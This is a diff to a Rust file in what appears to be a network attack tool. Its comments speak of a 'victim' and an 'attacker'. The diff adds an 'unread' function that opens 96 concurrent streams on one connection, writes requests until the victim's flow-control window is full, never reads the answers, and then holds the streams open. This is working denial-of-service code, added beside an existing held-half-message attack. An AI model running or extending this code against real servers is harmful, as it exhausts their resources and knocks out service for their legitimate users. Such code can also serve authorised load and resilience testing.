@@ -5,7 +5,7 @@ use std::{io, sync::Arc, time::Duration};
 use futures::AsyncWriteExt as _;
 use tokio::time::{sleep, timeout};
 
-use super::{PROTOCOLS, session};
+use super::{HELLO, PROTOCOLS, questions, session};
 use crate::{
     Target,
     client::{Session, until_ended},
@@ -26,6 +26,9 @@ const HELD_MAX: usize = 2_000;
 
 /// How long a half message is held.
 const HOLD: Duration = Duration::from_secs(15);
+
+/// Streams of one connection on which questions are asked.
+const ASKING_MAX: usize = 96;
 
 /// How long a victim may take no bytes. Whoever reads no further leaves the attacker with a full window.
 const STALL: Duration = Duration::from_millis(300);
@@ -108,6 +111,26 @@ pub(super) async fn half(target: &Target, number: usize, tally: &Arc<Tally>) -> 
     }
     // New ones come when these are let go.
     sleep(HOLD).await;
+    Ok(())
+}
+
+/// Asks on many streams without end, and reads no answer.
+pub(super) async fn unread(target: &Target, number: usize, tally: &Arc<Tally>) -> io::Result<()> {
+    let session = session(target, number, &PROTOCOLS, tally).await?;
+    let session = &session;
+    let ask = async |_| {
+        let Ok(mut stream) = session.bare().await else { return };
+        tally.opened();
+        let (mut asked, questions) = (HELLO, questions());
+        while let Ok(Ok(())) = timeout(STALL, stream.write_all(asked)).await {
+            tally.sent(asked.len());
+            asked = &questions;
+        }
+        // The window is full, or the victim ended it. A stream that is dropped would give back what it holds.
+        sleep(HOLD).await;
+        tally.ended();
+    };
+    futures::future::join_all((0..ASKING_MAX).map(ask)).await;
     Ok(())
 }
 
